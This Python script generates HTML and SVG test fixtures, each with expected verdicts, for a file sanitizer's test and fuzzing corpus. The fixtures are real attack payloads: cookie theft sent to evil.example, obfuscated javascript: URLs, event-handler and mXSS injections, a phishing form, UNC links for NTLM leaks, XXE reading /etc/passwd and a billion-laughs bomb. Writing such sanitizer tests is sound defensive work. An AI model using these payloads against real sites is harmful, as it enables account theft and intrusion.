#!/usr/bin/env python3
"""Write the hand-made HTML and SVG samples of tests/corpus/files/{html,svg}/.

Each sample gets a sibling .expect (verdict and the findings that must be
present) for `sanso file sanitize` with the default policy (links kept).
HTML samples start with <!DOCTYPE html>, <html>, <head> or <body> (after
an optional comment), SVG samples with <?xml or <svg, so the type is
found from the content. A few small samples are also copied as fuzzing
seeds into fuzz/corpus/fuzz-html/ and fuzz/corpus/fuzz-svg/.
Run: python3 tests/corpus/gen/markup.py
"""

import os

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..",
                    "..")
FILES = os.path.join(ROOT, "tests", "corpus", "files")
FUZZ = os.path.join(ROOT, "fuzz", "corpus")

SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'
XLINK_NS = 'xmlns:xlink="http://www.w3.org/1999/xlink"'

SEEDS = {
    "html": ["html_script.html", "html_js_url_obfuscated.html",
             "html_newsletter_clean.html", "html_conditional_comment.html",
             "html_math_mxss.html", "html_sjis_clean.html",
             "html_style_tricks.html"],
    "svg": ["svg_script.svg", "svg_foreign_object.svg",
            "svg_billion_laughs.svg", "svg_clean.svg",
            "svg_external_refs.svg"],
}


def write(fmt, name, data, verdict, findings=(), comment=""):
    if isinstance(data, str):
        data = data.encode("utf-8")
    folder = os.path.join(FILES, fmt)
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data)
    lines = ["# " + (comment or name)]
    lines.append("verdict " + verdict)
    for code, action in findings:
        lines.append("finding %s %s" % (code, action))
    with open(os.path.join(folder, name + ".expect"), "w") as f:
        f.write("\n".join(lines) + "\n")
    if name in SEEDS[fmt]:
        seeds = os.path.join(FUZZ, "fuzz-" + fmt)
        os.makedirs(seeds, exist_ok=True)
        with open(os.path.join(seeds, name), "wb") as f:
            f.write(data)


def page(body, head="<title>t</title>"):
    return ("<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">"
            + head + "</head>\n<body>\n" + body + "\n</body></html>\n")


def html_samples():
    w = lambda *a, **k: write("html", *a, **k)  # noqa: E731

    w("html_newsletter_clean.html",
      "<!-- newsletter, generated -->\n" + page(
          "<table width=\"600\" cellpadding=\"0\" border=\"0\" "
          "style=\"font-family: sans-serif; color: #333\">\n"
          "<tr><td bgcolor=\"#eeeeee\"><h1>Monthly news</h1></td></tr>\n"
          "<tr><td><p>Dear reader,</p><p>Here is <b>what</b> changed "
          "this month:</p><ul><li>New office hours</li><li>Holiday "
          "schedule</li></ul><ol><li>one</li><li>two</li></ol>"
          "<blockquote>A quote</blockquote><p>More on <a href=\"https://"
          "www.example.jp/news\">our site</a> &amp; <a href=\"#top\">top"
          "</a>.</p></td></tr>\n</table>",
          head="<title>News</title><style>h1 { color: #036; } "
          "td { padding: 4px }</style>"),
      "clean", [("html.link", "reported")],
      comment="clean newsletter: tables, style without url(), "
      "one web link (kept and reported under the default policy)")

    sjis = page("<h1>市役所からのお知らせ</h1><p>住民票の写しの交付は"
                "窓口で受け付けています。①②③ ～ 髙橋</p>",
                head="<title>お知らせ</title>").replace(
        "<meta charset=\"utf-8\">",
        "<meta http-equiv=\"Content-Type\" "
        "content=\"text/html; charset=Shift_JIS\">")
    w("html_sjis_clean.html", sjis.encode("cp932"), "clean",
      comment="clean Japanese page in Shift_JIS (CP932 characters), "
      "declared by meta http-equiv; rebuilt as UTF-8")
    euc = page("<p>日本語のテキスト、EUC-JPで書かれています。</p>",
               head="<title>日本語</title>").replace(
        "charset=\"utf-8\"", "charset=\"EUC-JP\"")
    w("html_eucjp_clean.html", euc.encode("euc_jp"), "clean",
      comment="clean Japanese page in EUC-JP, declared by meta charset")

    w("html_script.html", page(
        "<p>before</p><script>document.location='http://evil.example/?'"
        "+document.cookie</script><script src=\"https://evil.example/x.js\">"
        "</script><p>after</p>"),
      "sanitized", [("html.script", "removed")],
      comment="inline and remote script")
    w("html_mixed_case.html",
      "<HTML><HEAD><ScRiPt>alert(1)</sCrIpT></HEAD><BODY>"
      "<IFRAME SRC=\"https://evil.example/\"></IFRAME>"
      "<A HREF=\"JaVaScRiPt:alert(1)\">x</A>"
      "<IMG SRC=\"x.png\" ONERROR=\"alert(1)\"></BODY></HTML>\n",
      "sanitized", [("html.script", "removed"), ("html.iframe", "removed"),
                    ("html.dangerous_url", "removed"),
                    ("html.event_handler", "removed")],
      comment="upper and mixed case tags and attributes")
    w("html_event_handlers.html", page(
        "<body onload=\"go()\"><p onclick=\"x()\">a</p>"
        "<img src=\"pic.png\" OnError=\"alert(1)\" alt=\"p\">"
        "<div onmouseover=alert(1) title=\"t\">b</div>"
        "<details open ontoggle=alert(1)><summary>s</summary></details>"),
      "sanitized", [("html.event_handler", "removed")],
      comment="on* handlers in several spellings")
    w("html_js_url_obfuscated.html", page(
        "<a href=\"javascript:alert(1)\">1</a>\n"
        "<a href=\"jav&#x09;ascript:alert(2)\">2</a>\n"
        "<a href=\"jav&#10;ascript:alert(3)\">3</a>\n"
        "<a href=\"  JaVaScRiPt:alert(4)\">4</a>\n"
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;"
        "&#116;&#58;alert(5)\">5</a>\n"
        "<a href=\"javascript&colon;alert(6)\">6</a>\n"
        "<a href=\"&#x01;javascript:alert(7)\">7</a>\n"
        "<a href=\"vbscript:msgbox(8)\">8</a>\n"
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg"
        "==\">9</a>\n<a href=\"file:///C:/Windows/System32/calc.exe\">10"
        "</a>\n<a href=\"ms-msdt:/id PCWDiagnostic\">11</a>\n"
        "<a href=\"search-ms:query=x\">12</a>\n"
        "<a href=\"\\\\evil.example\\share\\x.lnk\">13</a>"),
      "sanitized", [("html.dangerous_url", "removed")],
      comment="javascript: hidden by entities, tabs, newlines, controls, "
      "case and spaces; vbscript, data, file, protocol handlers, UNC")
    w("html_iframe_object.html", page(
        "<iframe src=\"https://evil.example/\" srcdoc=\"<script>x</script>\">"
        "</iframe><object data=\"x.swf\" type=\"application/x-shockwave-"
        "flash\"><param name=a value=b>fallback</object>"
        "<embed src=\"x.swf\"><applet code=\"X.class\"></applet>"
        "<video src=\"movie.mp4\"></video>"),
      "sanitized", [("html.iframe", "removed")],
      comment="iframe, object, embed, applet, video")
    w("html_frameset.html",
      "<!DOCTYPE html>\n<html><head><title>f</title></head>"
      "<frameset cols=\"50%,50%\"><frame src=\"https://evil.example/a\">"
      "<frame src=\"b.html\"></frameset></html>\n",
      "sanitized", [("html.iframe", "removed")],
      comment="frameset document: the body stays empty")
    w("html_form.html", page(
        "<form action=\"https://evil.example/login\" method=\"post\">"
        "<label>ID <input name=\"id\"></label><label>Password "
        "<input type=\"password\" name=\"pw\"></label>"
        "<select name=\"s\"><option>1</option></select>"
        "<textarea name=\"t\">x</textarea><button formaction="
        "\"javascript:alert(1)\">Login</button></form>"),
      "sanitized", [("html.form", "removed"),
                    ("html.dangerous_url", "removed")],
      comment="phishing form with controls")
    w("html_external_resources.html", page(
        "<img src=\"https://tracker.example/pixel.gif\" alt=\"logo\">"
        "<img src=\"//tracker.example/p2.gif\">"
        "<img src=\"x.png\" srcset=\"https://tracker.example/x2.png 2x\">"
        "<table background=\"http://evil.example/bg.png\"><tr><td>t</td>"
        "</tr></table><video poster=\"https://evil.example/p.png\">"
        "</video><audio src=\"https://evil.example/a.mp3\"></audio>",
        head="<title>r</title><link rel=\"stylesheet\" href=\"https://"
        "evil.example/s.css\"><base href=\"https://evil.example/\">"
        "<meta http-equiv=\"refresh\" content=\"5; url=https://evil."
        "example/\">"),
      "sanitized", [("html.external_resource", "removed")],
      comment="remote images (alt text kept), stylesheet, base, meta "
      "refresh, srcset, background, poster, audio")
    w("html_meta_refresh_js.html", page(
        "<p>x</p>", head="<meta http-equiv=\"Refresh\" "
        "content=\"0;URL='javascript:alert(1)'\">"),
      "sanitized", [("html.dangerous_url", "removed")],
      comment="meta refresh to a javascript: URL")
    w("html_data_image.html", page(
        "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy"
        "53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=\" alt=\"x\">"),
      "sanitized", [("html.dangerous_url", "removed")],
      comment="data: image (an SVG with onload) in img: dropped, alt kept")
    w("html_style_tricks.html", page(
        "<div style=\"width: expression(alert(1))\">a</div>"
        "<div style=\"width: expr/**/ession(alert(2))\">b</div>"
        "<div style=\"background: u\\72l(https://evil.example/x.png)\">c"
        "</div><div style=\"-moz-binding: url(x.xml#xss)\">d</div>"
        "<div style=\"behavior: url(x.htc)\">e</div>"
        "<div style=\"color: red\">kept</div>",
        head="<style>@import url(https://evil.example/s.css); "
        "p { color: blue }</style>"),
      "sanitized", [("html.script", "removed"),
                    ("html.external_resource", "removed")],
      comment="CSS expression(), behavior, binding, escaped url(), @import")
    w("html_svg_inline.html", page(
        "<p>logo:</p><svg width=\"10\" height=\"10\" onload=\"alert(1)\">"
        "<script>alert(2)</script><a xlink:href=\"javascript:alert(3)\">"
        "<rect width=\"5\" height=\"5\"/></a></svg>"),
      "sanitized", [("html.iframe", "removed"), ("html.script", "removed"),
                    ("html.event_handler", "removed"),
                    ("html.dangerous_url", "removed")],
      comment="<svg> inside HTML with script, handler and javascript: link")
    w("html_math_mxss.html", page(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
        "</style></mglyph></table></mtext></math>"
        "<form><math><mtext></form><form><mglyph><style></math>"
        "<img src onerror=alert(2)>"),
      "sanitized", [("html.iframe", "removed")],
      comment="DOMPurify-style namespace confusion: MathML is dropped "
      "whole, so no re-parse can turn its text into markup")
    w("html_noscript_mxss.html", page(
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"
        "</p></noscript><p>after</p>"),
      "clean",
      comment="noscript parsed with scripting off: the handler is only "
      "attribute text; noscript is unwrapped and < > are escaped in "
      "attributes, so no browser can see an <img> there")
    w("html_conditional_comment.html", page(
        "<p>x</p><!--[if IE]><script>alert(1)</script>"
        "<img src=\"http://evil.example/ie.png\"><![endif]-->"
        "<!--[if gte mso 9]><xml>o</xml><![endif]--><!-- plain -->"),
      "sanitized", [("html.script", "removed"),
                    ("html.external_resource", "removed")],
      comment="script hidden in an IE conditional comment (comments are "
      "dropped; the hidden content is reported)")
    w("html_template_script.html", page(
        "<template><script>alert(1)</script><p>t</p></template><p>x</p>"),
      "sanitized", [("html.script", "removed")],
      comment="script inside <template>")
    w("html_malformed.html",
      b"<html><body><p><b><i>unclosed<table><td>cell</p></i><scr<script>"
      b"ipt>alert(1)</script></b>\x00\xff\xfe<a href=\"x\"<b>z",
      "clean",
      comment="broken markup, NUL and invalid UTF-8, no DOCTYPE (quirks "
      "mode, kept): repaired like a browser would; <scr<script> is an "
      "element named 'scr<script', so alert(1) is only text")
    w("html_unc_links.html", page(
        "<a href=\"//evil.example/share/doc\">a</a>"
        "<a href=\"/\\evil.example/x\">b</a>"
        "<img src=\"\\\\evil.example\\share\\p.png\" alt=\"c\">"),
      "sanitized", [("html.dangerous_url", "removed"),
                    ("html.external_resource", "removed")],
      comment="protocol-relative and backslash paths: UNC (NTLM leak) "
      "when a local file opens them")
    deep = "<div>" * 300 + "x" + "</div>" * 300
    w("html_deep_nesting.html", page(deep), "blocked",
      [("limit.xml_depth", "blocked")],
      comment="300 nested divs: over limits.xml_depth (256)")


def svg(body, extra=""):
    return ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg " + SVG_NS +
            " " + XLINK_NS + extra + " width=\"100\" height=\"100\" "
            "viewBox=\"0 0 100 100\">\n" + body + "\n</svg>\n")


def svg_samples():
    w = lambda *a, **k: write("svg", *a, **k)  # noqa: E731

    w("svg_clean.svg", svg(
        "<title>Logo</title><defs><linearGradient id=\"g\"><stop offset=\"0\""
        " stop-color=\"#036\"/><stop offset=\"1\" stop-color=\"#fff\"/>"
        "</linearGradient></defs><style>.a { fill: url(#g) }</style>"
        "<rect class=\"a\" width=\"100\" height=\"50\"/><circle cx=\"50\" "
        "cy=\"75\" r=\"20\" fill=\"url(#g)\" stroke=\"black\"/>"
        "<text x=\"10\" y=\"95\" font-size=\"8\">A &amp; B &lt; C</text>"
        "<use xlink:href=\"#g\"/>"),
      "clean", comment="clean drawing: gradient, local url(#g), text")
    w("svg_inkscape_clean.svg",
      "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>\n"
      "<!-- Created with Inkscape -->\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD "
      "SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">"
      "\n<svg " + SVG_NS + " xmlns:inkscape=\"http://www.inkscape.org/"
      "namespaces/inkscape\" xmlns:sodipodi=\"http://sodipodi.sourceforge."
      "net/DTD/sodipodi-0.dtd\" width=\"10\" height=\"10\">"
      "<sodipodi:namedview id=\"nv\"/><g inkscape:label=\"Layer 1\" "
      "inkscape:groupmode=\"layer\"><path d=\"M0 0L10 10\" "
      "style=\"stroke:#000;stroke-width:1\"/></g></svg>\n",
      "clean", comment="editor namespaces and a DTD reference: dropped "
      "silently, drawing kept")
    w("svg_sjis_clean.svg",
      ("<?xml version=\"1.0\" encoding=\"Shift_JIS\"?>\n<svg " + SVG_NS +
       " width=\"10\" height=\"10\"><text>市役所</text></svg>\n")
      .encode("cp932"),
      "clean", comment="XML declared in Shift_JIS: rebuilt as UTF-8")
    w("svg_script.svg", svg(
        "<script type=\"text/javascript\"><![CDATA[alert(document.domain)"
        "]]></script><rect width=\"10\" height=\"10\"/>"),
      "sanitized", [("svg.script", "removed")], comment="script element")
    w("svg_xhtml_script.svg", svg(
        "<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)"
        "</h:script><rect width=\"1\" height=\"1\"/>"),
      "sanitized", [("svg.script", "removed")],
      comment="script in the XHTML namespace, under a prefix")
    w("svg_event_handler.svg", svg(
        "<rect width=\"10\" height=\"10\" onclick=\"alert(1)\" "
        "onMouseOver=\"alert(2)\"/><set attributeName=\"onmouseover\" "
        "to=\"alert(3)\"/>", extra=" onload=\"alert(0)\""),
      "sanitized", [("svg.event_handler", "removed")],
      comment="onload on the root, handlers on shapes, <set> adding one")
    w("svg_js_href.svg", svg(
        "<a xlink:href=\"&#106;avascript:alert(1)\"><text y=\"10\">x</text>"
        "</a><a href=\" JAVASCRIPT:alert(2)\"><text y=\"20\">y</text></a>"
        "<a><animate attributeName=\"href\" values=\"javascript:alert(3)\"/>"
        "<text y=\"30\">z</text></a>"),
      "sanitized", [("svg.dangerous_url", "removed")],
      comment="javascript: links, entity-encoded, spaced, animated in")
    w("svg_data_image.svg", svg(
        "<image width=\"10\" height=\"10\" xlink:href=\"data:image/png;"
        "base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42m"
        "NkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\"/>"
        "<image href=\"data:image/svg+xml,&lt;svg onload='alert(1)'/&gt;\"/>"),
      "sanitized", [("svg.dangerous_url", "removed")],
      comment="data: images are dropped: their bytes would skip the image "
      "sanitizer, and data:image/svg+xml nests a whole SVG")
    w("svg_external_refs.svg",
      "<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/css\" "
      "href=\"https://evil.example/s.css\"?>\n" + svg(
          "<use href=\"other.svg#icon\"/><image xlink:href=\"https://"
          "evil.example/t.png\" width=\"1\" height=\"1\"/>"
          "<style>@import url(https://evil.example/x.css);</style>"
          "<rect width=\"1\" height=\"1\" fill=\"url(https://evil.example/"
          "p.svg#p)\"/><rect width=\"1\" height=\"1\" style=\"filter: "
          "url(//evil.example/f.svg#f)\"/>").split("\n", 1)[1],
      "sanitized", [("svg.external_resource", "removed")],
      comment="xml-stylesheet, use of another file, remote image, "
      "@import, url() in fill and style")
    w("svg_foreign_object.svg", svg(
        "<foreignObject width=\"100\" height=\"100\"><body xmlns=\"http://"
        "www.w3.org/1999/xhtml\"><iframe src=\"https://evil.example/\"/>"
        "<script>alert(1)</script><p>text</p></body></foreignObject>"
        "<circle r=\"5\"/>"),
      "sanitized", [("svg.external_resource", "removed"),
                    ("svg.script", "removed")],
      comment="foreignObject embedding HTML with a script and an iframe")
    w("svg_billion_laughs.svg",
      "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n"
      " <!ENTITY lol \"lol\">\n" +
      "".join(" <!ENTITY lol%d \"%s\">\n" % (i, ("&lol%s;" % (
          "" if i == 1 else i - 1)) * 10) for i in range(1, 10)) +
      "]>\n<svg " + SVG_NS + "><text>&lol9;</text></svg>\n",
      "blocked", [("svg.malformed", "blocked")],
      comment="billion laughs: entity declarations are refused before "
      "any expansion")
    w("svg_xxe.svg",
      "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "
      "\"file:///etc/passwd\">]>\n<svg " + SVG_NS +
      "><text>&xxe;</text></svg>\n",
      "blocked", [("svg.malformed", "blocked")],
      comment="external entity (XXE)")
    w("svg_not_xml.svg",
      "<svg " + SVG_NS + "><rect width=\"1\"><g></svg>\n",
      "blocked", [("svg.malformed", "blocked")],
      comment="not well-formed XML")
    w("svg_undeclared_prefix.svg",
      "<svg " + SVG_NS + "><x:script>alert(1)</x:script></svg>\n",
      "blocked", [("svg.malformed", "blocked")],
      comment="namespace prefix never declared: browsers refuse it too")
    deep = "<g>" * 300 + "</g>" * 300
    w("svg_deep_nesting.svg", svg(deep), "blocked",
      [("limit.xml_depth", "blocked")],
      comment="300 nested groups: over limits.xml_depth (256)")


def main():
    html_samples()
    svg_samples()


if __name__ == "__main__":
    main()
